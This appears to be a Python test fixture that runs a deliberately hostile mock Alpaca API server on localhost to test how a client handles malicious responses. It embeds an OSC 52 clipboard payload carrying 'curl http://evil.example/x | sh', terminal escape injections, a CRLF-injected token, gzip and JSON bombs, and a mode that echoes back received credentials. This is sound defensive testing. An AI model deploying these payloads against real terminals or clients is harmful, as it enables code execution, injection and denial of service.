"""A hostile Alpaca host on 127.0.0.1 (issue 12): every answer is an attack.

One threaded server answers raw HTTP/1.1 (written by hand, so it can drip, never end, or
break the rules). The first path segment picks the attack, so one profile's endpoints can
point at several: ``trading=http://127.0.0.1:P/escape``, ``auth=http://127.0.0.1:P/ok``.
The token endpoint (``.../v1/oauth2/token``) and the API paths answer per mode:

=============  ======================================================================
mode           answer
=============  ======================================================================
``ok``         a normal token (``expires_in`` 899) / ``200 {"id": ...}``
``escape``     terminal attacks in the error message, ``error_description``, the body,
               ``X-Request-ID`` and ``Retry-After`` (OSC 52 clipboard write, window
               title, CSI, 8-bit C1 CSI, bidi override, DEL, NUL); 401 / 400 / 200
``escape-ok``  ``200`` with the same attacks in a JSON body (a text body under ``.../text``)
               and headers; ``escape-text``: the text body on every path
``endless``    ``200``, a chunked body that never ends (64 KiB chunks)
``gzip``       ``200``, ``Content-Encoding: gzip`` that inflates to endless zeros
``drip``       status line, headers and body one byte every 0.4 s
``silent``     reads the request, never answers
``retry``      ``429`` with ``Retry-After: 1.5`` (forever)
``jsonbomb``   ``200``, just under 4 MiB of ``[{},{},...]``
``deep``       ``200``, JSON nested 100,000 levels deep
``echo``       ``401``/``400`` echoing the credential it received: as sent, base64, hex,
               URL-encoded, Basic, and as ``X-Request-ID``
``tok-crlf``   a token with CR LF in it; ``tok-esc``: with ESC; ``tok-long``: 20 KiB
``exp-true``   ``expires_in: true``; ``exp-tiny``: 0.001; ``exp-5``: 5;
               ``exp-str``: ``"soon"``; ``exp-12``: 12 (allowed)
=============  ======================================================================
"""

from __future__ import annotations

import base64
import json
import secrets
import socket
import socketserver
import threading
import zlib
from collections.abc import Callable
from typing import Any
from urllib.parse import parse_qs, quote

TOKEN_PATH = "/v1/oauth2/token"

# What a hostile server writes into its text: an OSC 52 clipboard write through tmux, a window
# title, a colour and a screen clear, the 8-bit CSI (U+009B), a bidi override, DEL and NUL, and
# markup a TUI would render as a link or choke on.
CLIPBOARD = "\x1b]52;c;" + base64.b64encode(b"curl http://evil.example/x | sh").decode() + "\x07"
ATTACK = (f"{CLIPBOARD}\x1bPtmux;\x1b\x1b]52;c;ZXZpbA==\x07\x1b\\\x1b]0;pwned\x07\x1b[31mred\x1b[2J"
          "\x9b31m\u202eevil\u202c\u2066x\u2069\x7f\x00\x08\r"
          "[link=https://evil.example]click[/link] [bold]markup[/] [/]")  # and Rich/Textual markup
HEADER_ATTACK = "\x9b31m\x9d0;title\x9c\x85x"  # only obs-text (0x80-0xff) is legal in a header value


def _chunk(data: bytes) -> bytes:
    return f"{len(data):x}\r\n".encode() + data + b"\r\n"


def _gzip_unit() -> tuple[bytes, bytes]:
    """(gzip header + first MiB, one more MiB of zeros): the second repeats forever."""
    comp = zlib.compressobj(9, zlib.DEFLATED, 31)
    first = comp.compress(bytes(1 << 20)) + comp.flush(zlib.Z_FULL_FLUSH)
    again = comp.compress(bytes(1 << 20)) + comp.flush(zlib.Z_FULL_FLUSH)
    return first, again


class Request:
    def __init__(self, method: str, path: str, headers: dict[str, str], body: bytes) -> None:
        self.method, self.path, self.headers, self.body = method, path, headers, body

    def received_secrets(self) -> list[str]:
        """The credential material the client sent (headers and the token form)."""
        out = [v for k, v in self.headers.items() if k in ("authorization", "apca-api-secret-key")]
        form = parse_qs(self.body.decode("latin-1"))
        out += [v[0] for k, v in form.items() if k in ("client_secret", "client_assertion")]
        return out


class HostileServer:
    """Start with ``with HostileServer() as h:``; ``h.url("escape")`` is a base URL."""

    def __init__(self) -> None:
        self._stop = threading.Event()
        self._gzip = _gzip_unit()
        self.seen: list[Request] = []
        outer = self

        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                outer._handle(self.request)

        class Server(socketserver.ThreadingTCPServer):
            daemon_threads = True
            allow_reuse_address = True

        self._server = Server(("127.0.0.1", 0), Handler)
        self.port = self._server.server_address[1]
        self._thread = threading.Thread(target=self._server.serve_forever, daemon=True)

    def __enter__(self) -> HostileServer:
        self._thread.start()
        return self

    def __exit__(self, *exc: object) -> None:
        self._stop.set()
        self._server.shutdown()
        self._server.server_close()

    def url(self, mode: str) -> str:
        return f"http://127.0.0.1:{self.port}/{mode}"

    # -- one connection ---------------------------------------------------------------------
    def _handle(self, sock: socket.socket) -> None:
        sock.settimeout(30)
        try:
            while not self._stop.is_set():
                req = _read_request(sock)
                if req is None:
                    return
                self.seen.append(req)
                _, mode, *rest = req.path.split("?")[0].split("/")
                answer = MODES.get(mode, _not_found)
                if not answer(self, sock, req, "/" + "/".join(rest)):
                    return
        except OSError:
            return
        finally:
            try:
                sock.close()
            except OSError:
                pass

    def sleep(self, seconds: float) -> None:
        if self._stop.wait(seconds):
            raise OSError("stopping")


def _read_request(sock: socket.socket) -> Request | None:
    data = b""
    while b"\r\n\r\n" not in data:
        more = sock.recv(65536)
        if not more:
            return None
        data += more
        if len(data) > 1 << 20:
            return None
    head, _, body = data.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    method, path, _version = lines[0].split(" ", 2)
    headers = {}
    for line in lines[1:]:
        k, _, v = line.partition(":")
        headers[k.strip().lower()] = v.strip()
    length = int(headers.get("content-length", "0") or 0)
    while len(body) < length:
        more = sock.recv(65536)
        if not more:
            return None
        body += more
    return Request(method, path, headers, body)


def _head(status: int, headers: dict[str, str] | None = None, *, length: int | None = None,
          chunked: bool = False, reason: str = "X") -> bytes:
    lines = [f"HTTP/1.1 {status} {reason}"]
    for k, v in (headers or {}).items():
        lines.append(f"{k}: {v}")
    if chunked:
        lines.append("Transfer-Encoding: chunked")
    elif length is not None:
        lines.append(f"Content-Length: {length}")
    return ("\r\n".join(lines) + "\r\n\r\n").encode("latin-1")


def _send(sock: socket.socket, status: int, body: bytes | str | Any, headers: dict[str, str] | None = None,
          ctype: str = "application/json") -> bool:
    if not isinstance(body, bytes | str):
        body = json.dumps(body)  # ensure_ascii: the escapes travel as \\u001b (JSON parses them)
    raw = body.encode("utf-8") if isinstance(body, str) else body
    sock.sendall(_head(status, {"Content-Type": ctype, **(headers or {})}, length=len(raw)) + raw)
    return True


def _token(value: str | None = None, **extra: Any) -> dict[str, Any]:
    return {"access_token": value or secrets.token_urlsafe(32), "expires_in": 899, "token_type": "Bearer",
            **extra}


def _ok(h: HostileServer, sock: socket.socket, req: Request, path: str) -> bool:
    if path == TOKEN_PATH:
        return _send(sock, 200, _token())
    return _send(sock, 200, {"id": "acct-1", "status": "ACTIVE"}, {"X-Request-ID": "req-ok-1"})


def _escape(h: HostileServer, sock: socket.socket, req: Request, path: str) -> bool:
    hdrs = {"X-Request-ID": HEADER_ATTACK, "Retry-After": HEADER_ATTACK}
    if path == TOKEN_PATH:
        return _send(sock, 400, {"error": "invalid_client", "error_description": ATTACK}, hdrs)
    return _send(sock, 401, {"code": 40110000, "message": ATTACK}, hdrs)


def _escape_ok(h: HostileServer, sock: socket.socket, req: Request, path: str) -> bool:
    hdrs = {"X-Request-ID": HEADER_ATTACK, "Retry-After": HEADER_ATTACK, "X-Attack": HEADER_ATTACK}
    if path == TOKEN_PATH:
        return _send(sock, 200, _token())
    if "text" in path or req.path.startswith("/escape-text/"):
        return _send(sock, 200, ATTACK, hdrs, ctype="text/plain")
    return _send(sock, 200, {"message": ATTACK, ATTACK: [ATTACK]}, hdrs)


def _endless(h: HostileServer, sock: socket.socket, req: Request, path: str) -> bool:
    sock.sendall(_head(200, {"Content-Type": "application/json"}, chunked=True) + _chunk(b'{"x": "'))
    block = _chunk(b"A" * 65536)
    while True:
        sock.sendall(block)


def _gzip(h: HostileServer, sock: socket.socket, req: Request, path: str) -> bool:
    first, again = h._gzip
    sock.sendall(_head(200, {"Content-Type": "application/json", "Content-Encoding": "gzip"}, chunked=True)
                 + _chunk(first))
    block = _chunk(again)
    while True:
        sock.sendall(block)


def _drip(h: HostileServer, sock: socket.socket, req: Request, path: str) -> bool:
    body = json.dumps(_token() if path == TOKEN_PATH else {"id": "x" * 10_000}).encode()
    raw = _head(200, {"Content-Type": "application/json"}, length=len(body)) + body
    for i in range(len(raw)):
        sock.sendall(raw[i:i + 1])
        h.sleep(0.4)
    return True


def _silent(h: HostileServer, sock: socket.socket, req: Request, path: str) -> bool:
    h.sleep(120)
    return False


def _retry(h: HostileServer, sock: socket.socket, req: Request, path: str) -> bool:
    return _send(sock, 429, {"message": "slow down"}, {"Retry-After": "1.5"})


def _jsonbomb(h: HostileServer, sock: socket.socket, req: Request, path: str) -> bool:
    if path == TOKEN_PATH:
        return _send(sock, 200, _token())
    n = (4 * 1024 * 1024 - 16) // 3
    return _send(sock, 200, b"[" + b"{}," * (n - 1) + b"{}]")


def _deep(h: HostileServer, sock: socket.socket, req: Request, path: str) -> bool:
    if path == TOKEN_PATH:
        return _send(sock, 200, _token())
    return _send(sock, 200, b"[" * 100_000 + b"]" * 100_000)


def _echo(h: HostileServer, sock: socket.socket, req: Request, path: str) -> bool:
    got = req.received_secrets()
    forms: list[str] = []
    for value in got:
        raw = value.encode()
        bare = value.split(" ", 1)[1] if value.lower().startswith(("basic ", "bearer ")) else value
        forms += [value, bare, base64.b64encode(bare.encode()).decode(), bare.encode().hex(),
                  quote(bare, safe=""), base64.urlsafe_b64encode(raw).decode()]
        if value.lower().startswith("basic "):
            forms.append(base64.b64decode(bare).decode("latin-1"))  # key_id:secret in clear
    rid = forms[1] if len(forms) > 1 else "none"
    hdrs = {"X-Request-ID": rid[:200], "X-Echo": (forms[2] if len(forms) > 2 else "none")[:200]}
    status = 400 if path == TOKEN_PATH else 401
    return _send(sock, status, {"code": 40110000, "message": "you sent: " + " | ".join(forms),
                                "error": "invalid_client", "error_description": " ".join(forms)}, hdrs)


def _bad_token(value: str | None = None, **extra: Any) -> Callable[..., bool]:
    def answer(h: HostileServer, sock: socket.socket, req: Request, path: str) -> bool:
        if path == TOKEN_PATH:
            return _send(sock, 200, _token(value, **extra))
        return _send(sock, 200, {"id": "acct-1"})

    return answer


def _not_found(h: HostileServer, sock: socket.socket, req: Request, path: str) -> bool:
    return _send(sock, 404, {"message": "no such mode"})


EVIL_TOKENS = {"tok-crlf": "tok\r\nX-Injected: 1", "tok-esc": "tok\x1b]52;c;ZXZpbA==\x07",
               "tok-long": "t" * 20_000}

MODES: dict[str, Callable[[HostileServer, socket.socket, Request, str], bool]] = {
    "ok": _ok, "escape": _escape, "escape-ok": _escape_ok, "escape-text": _escape_ok,
    "endless": _endless, "gzip": _gzip,
    "drip": _drip, "silent": _silent, "retry": _retry, "jsonbomb": _jsonbomb, "deep": _deep, "echo": _echo,
    **{name: _bad_token(value) for name, value in EVIL_TOKENS.items()},
    "exp-true": _bad_token(expires_in=True), "exp-tiny": _bad_token(expires_in=0.001),
    "exp-5": _bad_token(expires_in=5), "exp-str": _bad_token(expires_in="soon"),
    "exp-12": _bad_token(expires_in=12),
}

__all__ = ["ATTACK", "EVIL_TOKENS", "HEADER_ATTACK", "MODES", "HostileServer"]
